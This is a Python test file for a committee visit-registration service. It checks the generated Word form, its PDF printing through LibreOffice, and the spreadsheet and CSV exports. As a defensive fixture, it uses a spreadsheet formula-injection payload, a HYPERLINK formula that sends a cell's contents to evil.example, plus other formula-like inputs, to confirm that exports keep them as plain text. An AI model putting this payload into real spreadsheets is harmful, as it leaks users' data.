"""Visits on paper and in files: the Word registration form (labels beside their values,
ticked boxes, numbered problems, typed text kept as text, printable through LibreOffice)
and the visit list as a spreadsheet whose text cells never turn into formulas."""

import io
import shutil
import subprocess
from dataclasses import replace
from datetime import date, datetime, timedelta
from pathlib import Path

import pandas as pd
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from openpyxl import load_workbook

from core.db import read_session, write_session
from models import Channel, ListEntry, ListKind, ProblemStatus, Role, Visit, VisitOccasion
from services import visits
from services.exports import FileFormat
from services.lists import entry_names
from services.problems import ProblemItem
from services.visit_files import form_words, list_words, registration_form, visits_workbook
from services.visits import VISIT_LIST_COLUMNS, ProblemView, VisitDetail, VisitInput
from tests.helpers import factories

ZH, EN = form_words("zh_CN"), form_words("en")
CATEGORIES = {1: "教育", 2: "交通出行"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def a_visit(**changes) -> VisitDetail:
    """A joint visit of two members before the plenary, with three problems."""
    visit = Visit(
        id=1287, organisation_id=1, visit_date=date(2026, 11, 20),
        channel=Channel.FACE_TO_FACE, occasion=VisitOccasion.BEFORE_PLENARY,
        contact_targets="实验小学教师代表、学生家长", head_count=12,
        summary="与教师和家长座谈，听取对课后服务的意见。\n委员们记录了大家的意见建议。",
        at_base_unit=False, created_at=datetime(2026, 11, 21, 2, 15),
        acknowledged_at=datetime(2026, 11, 21, 8, 0),
    )
    detail = VisitDetail(
        visit=visit, members=[(1, "刘洋"), (2, "赵强")],
        member_units=["实验小学校长", "市财政局副局长"],
        contacts=[(5, "张老师"), (6, "李红梅")], workstation="东城街道委员工作站",
        campaign="全会前走访", problems=[
            ProblemView(1, "课后服务收费不透明", 1, ProblemStatus.PENDING),
            ProblemView(2, "校车线路太少", 2, ProblemStatus.PENDING),
            ProblemView(3, "建议引入校外资源", None, ProblemStatus.REFERRED),
        ],
        recorded_by="王敏", acknowledged_by="陈静",
    )
    visit_changes = {k: v for k, v in changes.items() if hasattr(visit, k)}
    for name, value in visit_changes.items():
        setattr(visit, name, value)
    return replace(detail, **{k: v for k, v in changes.items() if k not in visit_changes})


def form_of(detail: VisitDetail, words=ZH) -> Document:
    return Document(io.BytesIO(registration_form(detail, words, categories=CATEGORIES)))


def cells(document: Document) -> list[list[str]]:
    """Each row's cells as read across, a merged cell once."""
    rows = []
    for row in document.tables[0].rows:
        seen, texts = set(), []
        for cell in row.cells:
            if id(cell._tc) not in seen:
                seen.add(id(cell._tc))
                texts.append(cell.text)
        rows.append(texts)
    return rows


def value_of(document: Document, label: str) -> str:
    """The text in the cell right of ``label``."""
    for row in cells(document):
        if label in row:
            return row[row.index(label) + 1]
    raise AssertionError(f"no label {label!r} in {cells(document)}")


# --- the Word form ---------------------------------------------------------------------


def test_title_is_centred_in_heiti_and_the_form_is_a4_portrait():
    document = form_of(a_visit())
    title = document.paragraphs[0]
    assert title.text == "委员联系界别群众情况登记表"
    assert title.alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert title.runs[0]._element.rPr.rFonts.get(qn("w:eastAsia")) == "SimHei"
    assert document.paragraphs[1].text == "编号：1287"
    section = document.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert all(margin.cm >= 2 for margin in (section.left_margin, section.right_margin,
                                             section.top_margin, section.bottom_margin))


def test_each_label_sits_beside_its_value():
    document = form_of(a_visit())
    assert value_of(document, "委员姓名") == "刘洋、赵强"
    assert value_of(document, "联系时间") == "2026年11月20日"
    assert value_of(document, "人数") == "12人"
    assert value_of(document, "工作室（站）") == "东城街道委员工作站"
    assert value_of(document, "登记人") == "王敏"
    assert value_of(document, "专委会确认人") == "陈静"
    # stored in UTC, printed as the office's day: 02:15 and 08:00 UTC are the 21st there
    assert value_of(document, "登记日期") == value_of(document, "确认日期") == "2026年11月21日"


def test_a_joint_visit_gives_each_members_unit_on_its_own_line():
    assert value_of(form_of(a_visit()), "所在单位及职务") == (
        "刘洋：实验小学校长\n赵强：市财政局副局长")
    alone = a_visit(members=[(1, "刘洋")], member_units=["实验小学校长"])
    assert value_of(form_of(alone), "所在单位及职务") == "实验小学校长"


def test_channel_and_base_unit_are_ticked_as_on_the_paper_form():
    document = form_of(a_visit(channel=Channel.SERVICE_ACTIVITY, at_base_unit=True))
    channel = value_of(document, "联系方式")
    assert "☑服务活动" in channel and "☐走访谈心" in channel
    assert channel.count("☑") == 1 and channel.count("☐") == len(Channel) - 1
    assert value_of(document, "是否在所在单位") == "☑是　☐否"


def test_occasion_names_the_must_visit_campaign():
    assert value_of(form_of(a_visit()), "走访事由") == "政协全会召开前（全会前走访）"
    routine = a_visit(occasion=VisitOccasion.ROUTINE, campaign=None)
    assert value_of(form_of(routine), "走访事由") == "日常联系"


def test_contact_targets_include_the_registered_contact_persons():
    assert value_of(form_of(a_visit()), "联系对象") == (
        "实验小学教师代表、学生家长\n界别群众联系人：张老师、李红梅")
    only_persons = a_visit(contact_targets="")
    assert value_of(form_of(only_persons), "联系对象") == "界别群众联系人：张老师、李红梅"


def test_summary_keeps_its_paragraphs():
    assert value_of(form_of(a_visit()), "主要做法和\n基本情况") == (
        "与教师和家长座谈，听取对课后服务的意见。\n委员们记录了大家的意见建议。")


def test_problems_are_numbered_with_their_categories():
    assert value_of(form_of(a_visit()), "收集的问题\n和建议").split("\n") == [
        "1．【教育】课后服务收费不透明",
        "2．【交通出行】校车线路太少",
        "3．【未分类】建议引入校外资源",
    ]


def test_a_visit_without_problems_or_workstation_says_none():
    document = form_of(a_visit(problems=[], workstation=None))
    assert value_of(document, "收集的问题\n和建议") == "无"
    assert value_of(document, "工作室（站）") == "无"


def test_a_visit_awaiting_acknowledgement_leaves_the_lines_blank_for_the_pen():
    document = form_of(a_visit(acknowledged_by=None, acknowledged_at=None))
    assert value_of(document, "专委会确认人") == ""
    assert value_of(document, "确认日期") == ""


def test_the_form_prints_in_english():
    document = form_of(a_visit(), EN)
    assert document.paragraphs[0].text == "Sector Contact Registration Form"
    assert value_of(document, "Member") == "刘洋, 赵强"
    assert value_of(document, "Date of contact") == "20 Nov 2026"
    assert value_of(document, "Problems and suggestions").split("\n")[0] == (
        "1. [教育] 课后服务收费不透明")


def test_typed_text_stays_literal_text():
    braces = "{content}{number} <w:p/> &amp; ]]>"
    document = form_of(a_visit(
        summary=f"{HOSTILE}\n{braces}",
        problems=[ProblemView(1, HOSTILE, 1, ProblemStatus.PENDING),
                  ProblemView(2, braces, 1, ProblemStatus.PENDING)],
        members=[(1, "@SUM(A1:A9)")],
    ))
    assert value_of(document, "主要做法和\n基本情况") == f"{HOSTILE}\n{braces}"
    assert value_of(document, "收集的问题\n和建议").split("\n") == [
        f"1．【教育】{HOSTILE}", f"2．【教育】{braces}"]
    assert value_of(document, "委员姓名") == "@SUM(A1:A9)"
    body = document.element.body
    assert not body.findall(".//" + qn("w:fldSimple"))  # no field: Word's formulas
    assert not body.findall(".//" + qn("w:instrText"))


def test_characters_a_word_file_cannot_hold_are_dropped_and_the_rest_kept():
    uyghur, rare = "ئابدۇرېشىت", "𠮷野家"
    document = form_of(a_visit(
        summary=f"A\x00B\x07C\x1bD\x7fE\x85F\ufffeG\ud800H\r\n{uyghur}\t{rare}",
        members=[(1, f"{rare}\x0b"), (2, uyghur)],
    ))
    assert value_of(document, "主要做法和\n基本情况") == f"ABCDEFGH\n{uyghur}\t{rare}"
    assert value_of(document, "委员姓名") == f"{rare}、{uyghur}"


def test_a_ten_thousand_character_summary_makes_a_valid_document():
    summary = ("委员走访了解情况。" * 1112)[:10_000]
    assert value_of(form_of(a_visit(summary=summary)), "主要做法和\n基本情况") == summary


# --- printed through LibreOffice -------------------------------------------------------


def to_pdf(tmp_path: Path, files: dict[str, bytes]) -> dict[str, Path]:
    """The .docx files converted by LibreOffice, headless, with a profile of its own (two
    conversions sharing one profile would wait on each other's lock)."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed: apt-get install libreoffice-writer-nogui"
    paths = []
    for name, content in files.items():
        path = tmp_path / f"{name}.docx"
        path.write_bytes(content)
        paths.append(str(path))
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), *paths],
                   check=True, capture_output=True, timeout=180)
    return {name: tmp_path / f"{name}.pdf" for name in files}


def pdf_text(path: Path) -> str:
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "pdftotext is needed: apt-get install poppler-utils"
    return subprocess.run([pdftotext, str(path), "-"], check=True, capture_output=True,
                          text=True, timeout=60).stdout


def pages(text: str) -> int:
    return text.count("\f")  # pdftotext ends every page with a form feed


def test_libreoffice_prints_the_form_on_one_page_and_a_long_summary_on_more(tmp_path):
    long_summary = ("委员走访了解情况，听取意见建议。" * 700)[:10_000] + "结尾处"
    pdfs = to_pdf(tmp_path, {
        "form": registration_form(a_visit(), ZH, categories=CATEGORIES),
        "long": registration_form(a_visit(summary=long_summary), ZH, categories=CATEGORIES),
    })
    text = pdf_text(pdfs["form"])
    assert "委员联系界别群众情况登记表" in text and "刘洋" in text and "课后服务收费不透明" in text
    assert pages(text) == 1
    long_text = pdf_text(pdfs["long"])
    assert pages(long_text) >= 3 and "结尾处" in long_text and "陈静" in long_text


# --- the spreadsheet -------------------------------------------------------------------


def listed(**changes) -> pd.DataFrame:
    row = {"id": 7, "version": 1, "organisation_id": 1, "visit_date": date(2026, 11, 20),
           "members": "刘洋、赵强", "channel": Channel.ONLINE,
           "occasion": VisitOccasion.SECTOR_HOLIDAY, "head_count": 12,
           "contact_targets": "社区居民", "summary": HOSTILE, "problems": 3,
           "open_problems": 1, "acknowledged": True, "deleted": False} | changes
    return pd.DataFrame([row], columns=VISIT_LIST_COLUMNS)


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_workbook_has_one_row_per_visit_under_labelled_headers():
    sheet = sheet_of(visits_workbook(listed(), list_words("zh_CN")))
    header, row = ([cell.value for cell in line] for line in sheet.iter_rows(max_row=2))
    assert header == ["编号", "联系时间", "委员", "联系方式", "走访事由", "人数", "联系对象",
                      "主要做法和基本情况", "问题建议（条）", "未办结（条）", "专委会已确认"]
    assert row[:6] == [7, datetime(2026, 11, 20), "刘洋、赵强", "网络/移动联系",
                       "界别节日、纪念日", 12]
    assert row[8:] == [3, 1, "是"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.max_row == 2


def test_workbook_text_that_looks_like_a_formula_is_a_string():
    sheet = sheet_of(visits_workbook(listed(members="=1+1", contact_targets="@cmd"),
                                     list_words("zh_CN")))
    for column in ("C", "G", "H"):
        assert sheet[f"{column}2"].data_type == "s"
    assert sheet["H2"].value == HOSTILE and sheet["C2"].value == "=1+1"


def test_the_same_rows_export_as_csv_in_english():
    content = visits_workbook(listed(), list_words("en"), FileFormat.CSV).decode("utf-8-sig")
    header, row = content.splitlines()
    assert header.startswith('"No.","Date of contact","Members","Channel"')
    assert "\"'=HYPERLINK(" in row and row.endswith(',"yes"')


# --- from the store --------------------------------------------------------------------


def test_a_recorded_visit_prints_and_exports(engine):
    today = date(2026, 11, 21)
    with write_session(engine) as session:
        org = factories.organisation(session)
        member = factories.member(session, org, name="刘洋")
        member.employer, member.post = "实验小学", "校长"
        category = ListEntry(organisation_id=factories.TOP, kind=ListKind.PROBLEM_CATEGORY,
                             name="测试类别")
        session.add_all([member, category])
        session.flush()
        staff = factories.actor(session, "staff", Role.STAFF, committees={org[1].id})
        visit = visits.record_visit(session=session, actor=staff, idempotency_key="k1",
                                    today=today, data=VisitInput(
            member_ids=(member.id,), visit_date=today - timedelta(days=1),
            channel=Channel.FACE_TO_FACE, contact_targets="社区居民", head_count=12,
            summary="走访社区。", problems=(ProblemItem(HOSTILE, category.id),)))
    with read_session(engine) as session:
        detail = visits.visit_detail(session=session, actor=staff, visit_id=visit.id)
        categories = entry_names(session=session, organisation_id=factories.TOP,
                                 kind=ListKind.PROBLEM_CATEGORY)
        rows, _ = visits.list_visits(session=session, actor=staff)
    document = Document(io.BytesIO(registration_form(detail, ZH, categories=categories)))
    assert value_of(document, "所在单位及职务") == "实验小学校长"
    assert value_of(document, "收集的问题\n和建议") == f"1．【测试类别】{HOSTILE}"
    assert value_of(document, "登记人") == "staff" and value_of(document, "专委会确认人") == "staff"
    sheet = sheet_of(visits_workbook(rows, list_words("zh_CN")))
    assert [sheet["C2"].value, sheet["D2"].value, sheet["I2"].value, sheet["K2"].value] == [
        "刘洋", "走访谈心", 1, "是"]
